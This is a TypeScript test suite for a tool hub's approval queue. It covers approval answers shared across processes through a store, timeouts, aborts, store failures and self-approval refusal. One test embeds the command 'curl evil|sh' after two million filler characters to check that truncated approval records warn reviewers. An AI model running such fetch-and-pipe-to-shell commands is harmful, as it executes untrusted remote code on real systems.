import { createMemoryStore } from '@tool-hub/library/stores'
import { describe, expect, it } from 'vitest'
import {
  bound,
  full,
  hangs,
  never,
  newQueue,
  request,
  sameCall,
  storedYes,
} from '../../../../test/support/approval-queue.ts'
import type { Store } from '../../../core/src/store.ts'
import { currentProcess } from '../../../sandbox/src/system/processes.ts'
import type { CallApprovals } from './call-approvals.ts'

describe('through the store', () => {
  /** A process that is gone. */
  const GONE = JSON.stringify({ ...currentProcess(), pid: 2 ** 31 - 1 })
  function start(queue: CallApprovals, store: Store, asked = request, signal = never) {
    const answer = queue.ask(asked, signal, bound)
    answer.catch(() => {})
    const file = async () => {
      while (!(await store.approvals.find(asked.id))) await null
    }
    return { answer, filed: file() }
  }

  it('takes the answer of another process, which is used up then', async () => {
    const { queue, store } = newQueue({ waitsInStore: true })
    const { answer, filed } = start(queue, store)
    await filed
    await store.approvals.answer(request.id, storedYes('ada'))
    expect(await answer).toEqual({ decision: 'allow', by: 'ada', via: 'cli' })
    expect(await store.approvals.find(request.id)).toMatchObject({ state: 'answered', used: true })
  })

  it('files arguments that nobody could read only in part, and shows the whole here', async () => {
    const { queue, store } = newQueue({ waitsInStore: true })
    const text = `${'x'.repeat(2_000_000)}curl evil|sh`
    const { filed } = start(queue, store, { ...request, input: { text } })
    await filed
    const { request: json } = (await store.approvals.find(request.id))!
    expect(json.length).toBeLessThan(300_000)
    const { input, reason } = JSON.parse(json)
    expect(input).toMatch(
      /^\{"text":"x{1000,} … 1800023 characters in between are not shown … x{1000,}curl evil\|sh"\}$/,
    )
    expect(reason).toMatch(/ WARNING: the arguments have 2000023 characters, and 1800023 .* are not shown\.$/)
    expect(JSON.stringify(queue.list()[0]!.input).length).toBeGreaterThan(2_000_000)
    await queue.close()
  })

  it('fails immediately where nobody waits in the store', async () => {
    const { queue, store } = newQueue()
    await expect(queue.ask(request, never, bound)).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE' })
    expect(await store.approvals.find(request.id)).toBeUndefined()
  })

  it('lets the answer that came first hold, also against one that is given here', async () => {
    const { queue, store } = newQueue({ waitsInStore: true })
    const { answer, filed } = start(queue, store)
    await filed
    // The event of it has not come yet.
    const elsewhere = store.approvals.answer(request.id, {
      ...storedYes('ada'),
      reply: '{"decision":"deny","reason":"no"}',
    })
    expect(await queue.answer(request.id, { decision: 'allow', by: 'bob' })).toBe(false)
    await elsewhere
    await expect(answer).rejects.toMatchObject({ code: 'APPROVAL_DENIED', message: 'ada refused notes.save: no.' })
  })

  it('refuses an answer that makes no sense', async () => {
    const { queue, store } = newQueue({ waitsInStore: true })
    const { answer, filed } = start(queue, store)
    await filed
    await store.approvals.answer(request.id, { ...storedYes('ada'), reply: 'allow' })
    await expect(answer).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE' })
  })

  it('withdraws after an abort, and lets it expire with its time', async () => {
    const { queue, store, clock } = newQueue({ waitsInStore: true })
    const stopper = new AbortController()
    const stopped = start(queue, store, request, stopper.signal)
    const late = start(queue, store, { ...request, id: 'approval-2' })
    await Promise.all([stopped.filed, late.filed])
    stopper.abort()
    await expect(stopped.answer).rejects.toMatchObject({ code: 'ABORTED' })
    await clock.advance(1000)
    await expect(late.answer).rejects.toMatchObject({ code: 'APPROVAL_TIMEOUT' })
    await queue.close()
    expect((await store.approvals.list()).map(({ id, state }) => [id, state]).sort()).toEqual([
      ['approval-1', 'withdrawn'],
      ['approval-2', 'expired'],
    ])
    expect(clock.waiting).toBe(0)
  })

  it('gives one answer to one call, however many have adopted the request', async () => {
    const { queue, store } = newQueue({ waitsInStore: true })
    const { id, callId, run, tool, caller, hash } = request
    const times = { askedAt: Date.parse(request.askedAt), expiresAt: Date.parse(request.expiresAt) }
    const filed = {
      id,
      kind: 'approval' as const,
      callId,
      run,
      tool,
      caller,
      hash,
      request: '{}',
      ...times,
      owner: GONE,
    }
    await store.approvals.file(filed)
    await store.approvals.answer(id, storedYes('ada'))
    const adopted = await Promise.all([
      queue.adopt(sameCall, true),
      queue.adopt(sameCall, true),
      queue.adopt(sameCall, true),
    ])
    expect(adopted.every((ask) => ask?.id === id)).toBe(true)
    const used = await Promise.all(adopted.map((ask, i) => queue.useAnswer(ask!, { ...request, callId: `call-${i}` })))
    expect(used.filter((reply) => reply === 'lost')).toHaveLength(2)
    expect(await queue.adopt(sameCall)).toBeUndefined()
  })

  it('leaves the request of the same call at the same time to that call', async () => {
    const { queue, store } = newQueue({ waitsInStore: true })
    const { answer, filed } = start(queue, store)
    await filed
    expect(await queue.adopt(sameCall)).toBeUndefined()
    queue.reply(request.id, { decision: 'allow' })
    expect(await answer).toMatchObject({ decision: 'allow' })
  })

  it('ends the calls and keeps the requests when it closes, where the store outlives it', async () => {
    const { queue, store, clock } = newQueue({ approve: hangs, outlives: true })
    const { answer, filed } = start(queue, store)
    await filed
    await queue.close()
    await expect(answer).rejects.toMatchObject({
      code: 'APPROVAL_UNAVAILABLE',
      fix: { hint: expect.stringContaining('Repeat the same call') },
    })
    expect((await store.approvals.find(request.id))?.state).toBe('waiting')
    expect(clock.waiting).toBe(0)
  })

  it('withdraws and fails what only another process could answer when it closes, else', async () => {
    const { queue, store } = newQueue({ waitsInStore: true })
    const { answer, filed } = start(queue, store)
    await filed
    await queue.close()
    await expect(answer).rejects.toMatchObject({ message: expect.stringContaining('the hub was closed') })
    expect((await store.approvals.find(request.id))?.state).toBe('withdrawn')
  })

  it('needs the store only when it is the only way', async () => {
    const store = createMemoryStore()
    const broken: Store = {
      ...store,
      approvals: {
        ...store.approvals,
        file: () => Promise.reject(new Error('disk full')),
      },
    }
    const alone = newQueue({ store: broken, waitsInStore: true })
    await expect(alone.queue.ask(request, never, bound)).rejects.toMatchObject({
      code: 'APPROVAL_UNAVAILABLE',
      cause: new Error('disk full'),
    })
    const { queue } = newQueue({ approve: () => ({ decision: 'allow', by: 'ada' }), store: broken, waitsInStore: true })
    expect(await queue.ask(request, never, bound)).toMatchObject({ by: 'ada' })
  })

  it('waits on when an answer cannot be stored, until it is answered, stopped, over or closed', async () => {
    const failure = { code: 'RECORDS_UNAVAILABLE', retryable: true, cause: full }
    const failOnce = async (signal = never) => {
      const made = newQueue({ waitsInStore: true })
      const { answer, filed } = start(made.queue, made.store, request, signal)
      await filed
      const write = made.store.approvals.answer
      made.store.approvals.answer = () => Promise.reject(full)
      await expect(made.queue.answer(request.id, { decision: 'allow', by: 'ada' })).rejects.toMatchObject(failure)
      expect(made.queue.list()).toHaveLength(1)
      expect(await made.store.approvals.find(request.id)).toMatchObject({ state: 'waiting' })
      made.store.approvals.answer = write
      return { ...made, answer }
    }
    const answered = await failOnce()
    expect(await answered.queue.answer(request.id, { decision: 'allow', by: 'bob' })).toBe(true)
    expect(await answered.answer).toMatchObject({ by: 'bob' })

    const stopper = new AbortController()
    const stopped = await failOnce(stopper.signal)
    stopper.abort()
    await expect(stopped.answer).rejects.toMatchObject({ code: 'ABORTED' })

    const late = await failOnce()
    await late.clock.advance(1_000)
    await expect(late.answer).rejects.toMatchObject({ code: 'APPROVAL_TIMEOUT', details: { timeoutMs: 1_000 } })

    const closed = await failOnce()
    await closed.queue.close()
    await expect(closed.answer).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE' })
    for (const { queue, clock } of [answered, stopped, late, closed]) {
      expect(queue.list()).toEqual([])
      await queue.close()
      expect(clock.waiting).toBe(0)
    }
  })

  it.each(['the caller stops', 'the hub closes'])('ends when %s while an answer that fails is stored', async (what) => {
    const { queue, store } = newQueue({ waitsInStore: true })
    const stopper = new AbortController()
    const { answer, filed } = start(queue, store, request, stopper.signal)
    await filed
    let fail = (_: Error) => {}
    store.approvals.answer = () =>
      new Promise((_, reject) => {
        fail = reject
      })
    const told = queue.answer(request.id, { decision: 'allow', by: 'ada' })
    await expect.poll(() => queue.list()).toEqual([])
    const closing = what === 'the hub closes' ? queue.close() : stopper.abort()
    fail(new Error('disk full'))
    await expect(told).rejects.toMatchObject({ code: 'RECORDS_UNAVAILABLE' })
    await expect(answer).rejects.toMatchObject({ code: what === 'the hub closes' ? 'APPROVAL_UNAVAILABLE' : 'ABORTED' })
    await closing
    expect(queue.list()).toEqual([])
  })

  it('takes an answer that was stored although the store could not be read, or did not acknowledge it', async () => {
    const unread = newQueue({ waitsInStore: true })
    const waiting = start(unread.queue, unread.store)
    await waiting.filed
    const { find, answer } = unread.store.approvals
    unread.store.approvals.find = () => Promise.reject(new Error('away'))
    await unread.store.approvals.answer(request.id, storedYes('ada'))
    await new Promise(setImmediate)
    unread.store.approvals.find = find
    await unread.clock.advance(500)
    expect(await waiting.answer).toMatchObject({ by: 'ada' })

    const lost = newQueue({ waitsInStore: true, store: { ...unread.store, approvals: { ...unread.store.approvals } } })
    const second = { ...request, id: 'approval-2', callId: 'call-2' }
    const asked = start(lost.queue, lost.store, second)
    await asked.filed
    lost.store.approvals.answer = async (...given) => {
      await answer(...given)
      // Its event comes while nobody knows yet that the acknowledgement is lost.
      await new Promise(setImmediate)
      throw new Error('The connection was lost.')
    }
    const telling = lost.queue.answer(second.id, { decision: 'allow', by: 'bob' })
    await expect(telling).rejects.toMatchObject({ code: 'RECORDS_UNAVAILABLE' })
    expect(await asked.answer).toMatchObject({ by: 'bob' })
  })

  it('ends the call when code has answered and the answer cannot be stored: it will not answer again', async () => {
    const { queue, store } = newQueue({ approve: () => ({ decision: 'allow', by: 'ada' }), waitsInStore: true })
    store.approvals.answer = () => Promise.reject(new Error('disk full'))
    await expect(queue.ask(request, never, bound)).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE' })
    expect(queue.list()).toEqual([])
  })

  it('lets nobody answer for their own call, whichever way they try', async () => {
    const own = { ...request, principal: 'token:ci' }
    const reply = { decision: 'allow', by: 'token:ci' } as const
    const refusal = { code: 'POLICY_DENIED', message: 'token:ci asked for this call and cannot answer for it.' }
    const { queue, store } = newQueue({ waitsInStore: true })
    const { answer, filed } = start(queue, store, own)
    await filed
    expect(() => queue.reply(own.id, reply)).toThrow(expect.objectContaining(refusal))
    await expect(queue.answer(own.id, reply)).rejects.toMatchObject(refusal)
    const other = newQueue({ store })
    await expect(other.queue.answer(own.id, reply)).rejects.toMatchObject(refusal)
    expect(await other.queue.answer(own.id, { ...reply, by: 'token:boss' })).toBe(true)
    expect(await answer).toMatchObject({ by: 'token:boss' })
    const inCode = newQueue({ approve: () => reply })
    await expect(inCode.queue.ask(own, never, bound)).rejects.toMatchObject(refusal)
  })

  it('lets nobody answer for a session that they began, but the owner', async () => {
    const child = { ...request, principal: 'token:ci/s1' }
    const { queue, store } = newQueue({ waitsInStore: true })
    const { answer, filed } = start(queue, store, child)
    await filed
    await expect(queue.answer(child.id, { decision: 'allow', by: 'token:ci' })).rejects.toMatchObject({
      code: 'POLICY_DENIED',
    })
    expect(await queue.answer(child.id, { decision: 'allow', by: 'token:c' })).toBe(true)
    expect(await answer).toMatchObject({ by: 'token:c' })
    const own = newQueue({ approve: () => ({ decision: 'allow', by: 'owner' }) })
    expect(await own.queue.ask({ ...request, principal: 'owner/s1' }, never, bound)).toMatchObject({ by: 'owner' })
  })

  it('says of an answer whether it was the first, late, or for nothing', async () => {
    const { queue, store, clock } = newQueue({ waitsInStore: true })
    const { queue: other } = newQueue({ store })
    const { answer, filed } = start(queue, store)
    await filed
    expect(await other.answer('approval-nowhere', { decision: 'allow' })).toBeUndefined()
    expect(await other.answer(request.id, { decision: 'allow', by: 'ada' })).toBe(true)
    expect(await other.answer(request.id, { decision: 'deny' })).toBe(false)
    await expect(other.answer(request.id, { decision: 'maybe' } as never)).rejects.toThrow('This is not an answer')
    expect(await answer).toMatchObject({ by: 'ada' })
    expect(clock.waiting).toBe(0)
  })
})
